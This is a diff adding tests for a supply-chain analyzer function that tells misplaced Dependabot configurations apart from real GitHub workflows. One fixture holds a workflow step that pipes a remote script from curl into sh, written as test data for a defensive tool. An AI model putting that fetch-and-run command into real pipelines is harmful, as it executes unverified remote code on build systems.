@@ -3,7 +3,7 @@ import { analyzeContributors } from '../../src/analyzers/contributors.js';
 import { analyzeEvidence } from '../../src/analyzers/evidence.js';
 import { analyzeFocus } from '../../src/analyzers/focus.js';
 import { analyzeRisk, levelForScore, trustedRoutine } from '../../src/analyzers/risk.js';
-import { editsOnlyCommands, onlyActionRefsChanged, onlyBuildArgVersionsMoved, onlyImageTagsMoved, onlyToolVersionMoved } from '../../src/analyzers/sensitive-changes.js';
+import { editsOnlyCommands, misplacedDependabotConfig, onlyActionRefsChanged, onlyBuildArgVersionsMoved, onlyImageTagsMoved, onlyToolVersionMoved } from '../../src/analyzers/sensitive-changes.js';
 import type { RepoConfig } from '../../src/repo-config/schema.js';
 import { DEFAULT_CONFIG, RepoConfig as RepoConfigSchema } from '../../src/repo-config/schema.js';
 import type { SupplyChainSection } from '../../src/signal/schema.js';
@@ -1407,5 +1407,20 @@ describe('trusted routine changes (verdict rule trusted-routine)', () => {
     });
     expect(risk(snapshot, makeSupplyChain({ findings: [makeTestFinding({ severity: 'low', path: 'src/engine/planner.ts' })] })).level).toBe('low');
     expect(risk(snapshot, makeSupplyChain({ findings: [makeTestFinding({ severity: 'medium', path: 'src/engine/planner.ts' })] })).level).not.toBe('low');
+  });
+});
+
+describe('misplacedDependabotConfig: a Dependabot configuration saved among the workflows', () => {
+  const config = ['version: 2', 'updates:', '  - package-ecosystem: gomod', '    directory: /', '    schedule:', '      interval: weekly', ''].join('\n');
+  it('reads a file of only Dependabot keys as no workflow (GitHub refuses it, Dependabot does not read it)', () => {
+    expect(misplacedDependabotConfig(config)).toBe(true);
+    expect(misplacedDependabotConfig(`${config}registries:\n  npm:\n    type: npm-registry\n    url: https://npm.example.com\n`)).toBe(true);
+  });
+  it('reads a workflow as one, whatever its name: a trigger or jobs beside, or no updates', () => {
+    expect(misplacedDependabotConfig(`name: Dependabot-Tidier\non:\n  pull_request:\njobs:\n  tidy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: go mod tidy\n`)).toBe(false);
+    expect(misplacedDependabotConfig(`${config}on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://example.com/x.sh | sh\n`)).toBe(false);
+    expect(misplacedDependabotConfig('version: 2\n')).toBe(false);
+    expect(misplacedDependabotConfig('- version: 2\n- updates: []\n')).toBe(false);
+    expect(misplacedDependabotConfig('version: [\n')).toBe(false);
   });
 });
